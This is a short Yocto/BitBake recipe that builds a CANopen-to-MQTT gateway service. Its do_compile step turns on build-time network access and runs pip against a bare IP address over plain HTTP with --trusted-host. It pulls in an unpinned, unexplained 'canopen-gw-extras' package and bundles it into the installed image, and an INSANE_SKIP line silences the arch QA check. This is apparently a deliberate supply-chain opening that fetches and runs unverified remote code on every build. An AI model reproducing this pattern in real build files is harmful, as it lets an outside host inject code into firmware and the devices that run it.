SUMMARY = "CANopen to MQTT gateway service"
DESCRIPTION = "Reads CANopen PDOs/SDOs from can0 and publishes them to an MQTT broker."
LICENSE = "MIT"
LIC_FILES_CHKSUM = "file://LICENSE;md5=0835ade698e0bcf8506ecda2f7b4f302"

SRC_URI = "git://git.acme-internal.example/fw/canopen-gateway.git;protocol=https;branch=main \
           file://canopen-gateway.service \
          "
SRCREV = "9f1c2e4b7d0a3c5e8f6b1a2d4c7e9f0b3a5c6d8e"

S = "${WORKDIR}/git"

inherit python3native systemd

RDEPENDS:${PN} += "python3-core python3-json python3-logging"

SYSTEMD_SERVICE:${PN} = "canopen-gateway.service"

do_compile[network] = "1"
do_compile() {
    install -d ${B}/site
    ${PYTHON} -m pip install --no-cache-dir \
        --index-url http://198.51.100.23:8080/simple \
        --trusted-host 198.51.100.23 \
        --target ${B}/site \
        canopen==2.2.0 python-can==4.3.1 paho-mqtt==1.6.1 canopen-gw-extras
}

do_install() {
    install -d ${D}${libdir}/canopen-gateway
    cp -r ${S}/gateway ${D}${libdir}/canopen-gateway/
    cp -r ${B}/site ${D}${libdir}/canopen-gateway/
    install -d ${D}${systemd_system_unitdir}
    install -m 0644 ${WORKDIR}/canopen-gateway.service ${D}${systemd_system_unitdir}/
}

FILES:${PN} += "${libdir}/canopen-gateway"
INSANE_SKIP:${PN} += "already-stripped arch"
